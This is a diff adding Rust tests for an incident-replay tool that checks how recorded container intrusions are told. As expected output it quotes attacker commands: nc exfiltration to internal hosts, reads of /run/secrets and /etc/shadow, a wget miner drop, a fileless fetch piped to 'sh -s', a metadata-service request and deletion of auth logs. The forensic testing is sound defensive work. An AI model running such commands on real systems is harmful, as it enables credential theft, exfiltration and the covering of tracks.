@@ -1,0 +1,288 @@
+//! What the samples' stories, maps, files and terminals must tell somebody who has only them.
+
+use crate::keys::{press, type_in};
+use crate::story::{self, Call, who};
+use crossterm::event::KeyCode;
+use std::path::PathBuf;
+use std::sync::Arc;
+use taffrail_query::Session;
+use taffrail_tui::state::Action;
+use taffrail_tui::state::recording::Kind;
+use taffrail_tui::{Bundles, State, load, screen_text};
+
+fn samples(names: &[&str]) -> State {
+    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../sample-traces");
+    let paths: Vec<PathBuf> = names.iter().map(|name| dir.join(format!("{name}.evidence.zip"))).collect();
+    let runtime = tokio::runtime::Builder::new_current_thread().build().expect("a runtime");
+    let session = Arc::new(runtime.block_on(Session::open(&paths)).expect("a session"));
+    let mut state = load(&session).expect("the samples load");
+    state.asker = Some(Arc::new(Bundles(session)));
+    state
+}
+
+fn told(state: &State) -> Vec<String> {
+    state.story.iter().map(|sentence| sentence.text.clone()).collect()
+}
+
+/// Whether one sentence has all of these words.
+fn tells(state: &State, words: &[&str]) {
+    let told = told(state);
+    let found = told.iter().any(|text| words.iter().all(|word| text.contains(word)));
+    assert!(found, "{words:?} is in none of {told:#?}");
+}
+
+fn filter(state: &mut State, text: &str) {
+    press(state, KeyCode::Char('f'));
+    type_in(state, text);
+    press(state, KeyCode::Enter);
+    state.wait();
+}
+
+#[test]
+fn the_story_tells_every_program_that_the_intruder_ran_whether_a_rule_knew_it_or_not() {
+    for (sample, commands) in [
+        ("theft-and-scan", &["nc -w 1 10.20.0.1 443", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot /tmp/.role"][..]),
+        ("io-uring", &["uring-steal /etc/shadow", "uring-unlink /tmp/trace"]),
+        ("fileless", &["workloads fileless http", "sh -s"]),
+        ("dropped-miner", &["wget -q -O /tmp/.kdevtmpfsi", "chmod 755", "rm -f /var/log/auth.log"]),
+    ] {
+        let state = samples(&[sample]);
+        commands.iter().for_each(|command| tells(&state, &[" ran `", command]));
+    }
+}
+
+#[test]
+fn the_story_tells_where_the_loot_went_what_was_fetched_and_what_was_removed() {
+    let theft = samples(&["theft-and-scan"]);
+    tells(&theft, &["nc (16221) connected to 10.20.0.1:443, sent 64 B"]);
+    tells(&theft, &["nc (16255) connected to 10.20.0.9:443, sent 64 B"]);
+    tells(&theft, &["rm (16257) removed /tmp/.loot"]);
+    let fileless = samples(&["fileless"]);
+    tells(&fileless, &["workloads (16517) connected to 10.20.0.9:80", "received 1.7 MB"]);
+    tells(&fileless, &["memfd_create"]);
+    tells(&fileless, &["opened", "/etc/passwd"]);
+    tells(&samples(&["io-uring"]), &["workloads (16386) removed /tmp/trace"]);
+}
+
+#[test]
+fn the_story_begins_with_the_connection_that_the_intruder_came_by() {
+    for (sample, server) in [("theft-and-scan", "httpd (16142)"), ("fileless", "httpd (16445)")] {
+        tells(&samples(&[sample]), &[server, "accepted a connection from 10.20.0.5:", "the last before"]);
+    }
+}
+
+#[test]
+fn refused_connections_are_one_moment_with_their_number_their_network_and_their_ports() {
+    let state = samples(&["theft-and-scan"]);
+    let refused: Vec<String> = told(&state).into_iter().filter(|text| text.contains("ECONNREFUSED")).collect();
+    assert!(refused.len() <= 4, "{refused:#?}");
+    tells(&state, &["workloads (16223) could not connect", "10.20.0.0/24", "22, 5432", "ECONNREFUSED"]);
+    assert!(state.story.len() < 80, "{} moments", state.story.len());
+}
+
+#[test]
+fn the_story_says_of_how_many_events_it_is_and_that_it_tells_none_of_those_that_pass() {
+    let mut state = samples(&["theft-and-scan"]);
+    press(&mut state, KeyCode::Char('1'));
+    let screen = screen_text(&state, 120, 40);
+    let title = format!("of {} moments from {} events", state.story.len(), state.timeline.len());
+    assert!(screen.contains(&title), "{title}\n{screen}");
+    filter(&mut state, "proc.name = nc");
+    press(&mut state, KeyCode::Char('1'));
+    assert!(!state.sentences().is_empty(), "{}", screen_text(&state, 120, 40));
+}
+
+#[test]
+fn a_filter_that_leaves_events_but_no_moment_is_not_told_as_nothing() {
+    let mut state = story::incident();
+    filter(&mut state, "index.php");
+    assert!(state.visible.len() > 1);
+    press(&mut state, KeyCode::Char('1'));
+    let screen = screen_text(&state, 120, 40);
+    let wanted = format!("The story tells none of these {} events; 2 shows them.", state.visible.len());
+    assert!(screen.contains(&wanted), "{wanted}\n{screen}");
+}
+
+#[test]
+fn a_line_that_was_typed_without_an_end_is_typed_all_the_same() {
+    for (sample, last) in [
+        ("fileless", "fileless http://10.20.0.9/update"),
+        ("io-uring", "uring-unlink /tmp/trace"),
+        ("dropped-miner", "/var/log/auth.log"),
+        ("host-mount", "chroot"),
+        ("theft-and-scan", "rm /tmp/.loot /tmp/.role"),
+    ] {
+        let state = samples(&[sample]);
+        let typed: Vec<String> = told(&state).into_iter().filter(|text| text.contains("typed")).collect();
+        assert!(typed.iter().any(|text| text.contains(last)), "{sample}: {last} is not in {typed:#?}");
+    }
+}
+
+#[test]
+fn what_the_story_leaves_out_of_a_long_moment_it_says_with_its_number() {
+    let lines: String = (1..=40).map(|line| format!("echo line {line}\n")).collect();
+    let mut state = story::incident_with(|rows| story::terminal(rows, 3_000, &lines, ""));
+    press(&mut state, KeyCode::Char('1'));
+    press(&mut state, KeyCode::Home);
+    let screen = screen_text(&state, 120, 60);
+    let shown = (1..=40).filter(|line| screen.contains(&format!("echo line {line} "))).count();
+    assert!((8..40).contains(&shown), "{shown}\n{screen}");
+    assert!(screen.contains(&format!("\u{2026} {} more lines, 6 shows them", 40 - shown)), "{screen}");
+}
+
+#[test]
+fn the_replay_begins_at_the_first_of_the_worst_and_says_how_many_there_are() {
+    for (sample, banner) in [
+        ("fileless", "CRITICAL  2 critical: Program run from memory"),
+        ("theft-and-scan", "CRITICAL  1 critical, 9 warning: Credentials read, then a connection"),
+        ("host-mount", "CRITICAL  6 critical, 1 warning:"),
+    ] {
+        let mut state = samples(&[sample]);
+        let screen = screen_text(&state, 120, 40);
+        assert!(screen.contains(banner), "{banner}\n{screen}");
+        assert!(screen.contains("sealed: manual"), "{screen}");
+        let alarm = state.alarm.expect("findings");
+        assert_eq!(state.at, alarm.time);
+        let finding = state.current().expect("an event");
+        assert_eq!(finding.body.kind(), Kind::Finding);
+        // The trigger is a key away.
+        press(&mut state, KeyCode::Char('t'));
+        assert_eq!(state.at, state.recording.about.trigger);
+    }
+    let quiet = samples(&["day-in-the-life"]);
+    assert!(quiet.alarm.is_none());
+    assert_eq!(quiet.at, quiet.recording.about.trigger);
+    assert!(screen_text(&quiet, 120, 40).contains(" INFO  manual"));
+}
+
+#[test]
+fn the_strip_shows_where_something_happened_and_the_whole_window_on_request() {
+    let mut state = samples(&["theft-and-scan"]);
+    let window = (state.recording.about.from, state.recording.about.to);
+    let (from, to) = state.strip_range();
+    assert!(to - from < 1_000_000_000, "the attack took a fifth of a second: {} ns", to - from);
+    assert!((from..=to).contains(&state.at));
+    assert!(screen_text(&state, 120, 40).contains("(- whole window)"));
+    press(&mut state, KeyCode::Char('-'));
+    assert_eq!(state.strip_range(), window);
+    press(&mut state, KeyCode::Char('+'));
+    assert_eq!(state.strip_range(), (from, to));
+    press(&mut state, KeyCode::Char('t'));
+    assert!(state.strip_range().1 >= state.at, "the playhead is always on the strip");
+}
+
+#[test]
+fn of_several_bundles_every_moment_process_edge_and_terminal_names_its_container() {
+    let mut state = samples(&["docker-socket", "docker-socket-maintenance", "host-mount"]);
+    let created: Vec<String> = told(&state).into_iter().filter(|text| text.contains("was created")).collect();
+    assert!(
+        created.len() >= 3 && created.iter().all(|text| text.contains(": The container was created.")),
+        "{created:?}"
+    );
+    for (key, wanted) in
+        [('3', "[host-mount-14410-0] "), ('4', "host-mount-14410-0 httpd"), ('6', " in host-mount-14410-0")]
+    {
+        press(&mut state, KeyCode::Char(key));
+        press(&mut state, KeyCode::End);
+        let screen = screen_text(&state, 160, 60);
+        assert!(screen.contains(wanted), "{wanted}\n{screen}");
+    }
+}
+
+#[test]
+fn flows_that_were_answered_stand_alone_while_refused_ones_are_brought_together() {
+    let mut state = samples(&["theft-and-scan"]);
+    press(&mut state, KeyCode::Char('4'));
+    press(&mut state, KeyCode::End);
+    let screen = screen_text(&state, 120, 40);
+    for (who, address) in [("nc 16221", "10.20.0.1"), ("nc 16255", "10.20.0.9"), ("wget 16219", "169.254.169.254")] {
+        let line = screen.lines().find(|line| line.contains(who)).unwrap_or_default();
+        assert!(line.contains(address) && line.contains('\u{2191}'), "{who}: {line}\n{screen}");
+    }
+    assert!(screen.contains("10.20.0.0/24 refused"), "{screen}");
+    state.apply(Action::FoldAll);
+    let unfolded = screen_text(&state, 120, 200);
+    let refused = unfolded.lines().filter(|line| line.contains("  refused "));
+    let host = |line: &str| line.split_whitespace().find(|word| word.starts_with("10.20.0.")).map(str::to_owned);
+    let shown: Vec<String> = refused.filter_map(host).collect();
+    let mut sorted = shown.clone();
+    sorted.sort_by_key(|host| host.rsplit('.').next().and_then(|last| last.parse::<u8>().ok()));
+    assert!(shown.len() > 30, "{shown:?}");
+    assert_eq!(shown, sorted);
+}
+
+#[test]
+fn what_the_runtime_prepared_is_one_line_and_a_directory_is_no_program() {
+    let mut state = samples(&["fileless"]);
+    press(&mut state, KeyCode::Char('5'));
+    press(&mut state, KeyCode::End);
+    let screen = screen_text(&state, 120, 40);
+    assert!(!screen.contains("overlay2"), "{screen}");
+    assert!(screen.contains("+ from outside the container, by its runtime as a rule  "), "{screen}");
+    assert!(screen.contains("in memory") && screen.contains("memfd:"), "{screen}");
+    assert!(screen.contains("+ made  ~ written"), "the signs are explained:\n{screen}");
+    state.apply(Action::FoldAll);
+    let unfolded = screen_text(&state, 160, 80);
+    assert!(unfolded.contains("overlay2") && !unfolded.contains("executable"), "{unfolded}");
+}
+
+#[test]
+fn who_ended_within_the_last_minute_is_still_among_the_processes() {
+    let mut state = samples(&["reverse-shell"]);
+    press(&mut state, KeyCode::Char('3'));
+    press(&mut state, KeyCode::End);
+    let screen = screen_text(&state, 160, 60);
+    for name in ["id ", "cat ", "wget ", ".update "] {
+        let line = screen.lines().find(|line| line.contains(&format!(" {name}"))).unwrap_or_default();
+        assert!(line.contains("ended"), "{name}\n{screen}");
+    }
+    press(&mut state, KeyCode::Home);
+    assert!(!screen_text(&state, 160, 60).contains("wget 15164"), "not before its time");
+}
+
+#[test]
+fn a_script_that_came_over_a_pipe_is_read_as_a_whole_at_any_size() {
+    let mut state = samples(&["theft-and-scan"]);
+    press(&mut state, KeyCode::Char('6'));
+    press(&mut state, KeyCode::End);
+    let wide = screen_text(&state, 120, 40);
+    for words in ["cat /run/secrets", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot"] {
+        assert!(wide.contains(words), "{words}\n{wide}");
+    }
+    press(&mut state, KeyCode::Tab);
+    let mut seen = String::new();
+    for _ in 0..30 {
+        seen.push_str(&screen_text(&state, 80, 24));
+        press(&mut state, KeyCode::Down);
+    }
+    for words in
+        ["what was typed in terminal", "cat /run/secrets", "scan 10.20.0", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot"]
+    {
+        assert!(seen.contains(words), "{words}\n{}", screen_text(&state, 80, 24));
+    }
+    press(&mut state, KeyCode::Tab);
+    assert!(state.typed_from.is_none());
+}
+
+#[test]
+fn a_service_that_answers_and_asks_all_day_takes_two_moments_however_much_it_does() {
+    let state = story::incident_with(|rows| {
+        for number in 0..300 {
+            let remote = format!("198.51.100.{}:443", number % 7);
+            let call = Call {
+                op: "connect",
+                local: "172.17.0.4:40000",
+                remote: Some(&remote),
+                end: Some(-9_000 + number),
+                bytes: (10, 20),
+                result: 0,
+            };
+            story::flow(rows, -10_000 + number, who(4, 2251, "httpd"), &call);
+        }
+    });
+    tells(&state, &["httpd connected 300 times to 7 addresses of 198.51.100.0/24", "sent 3.0 kB and received 6.0 kB"]);
+    tells(&state, &["httpd accepted 9 connections at 172.17.0.4:80", "198.51.100.0/24"]);
+    let servers = told(&state).iter().filter(|text| text.starts_with("httpd")).count();
+    assert!(servers <= 5, "{:#?}", told(&state));
+    assert!(state.story.iter().is_sorted_by_key(|sentence| sentence.event));
+}
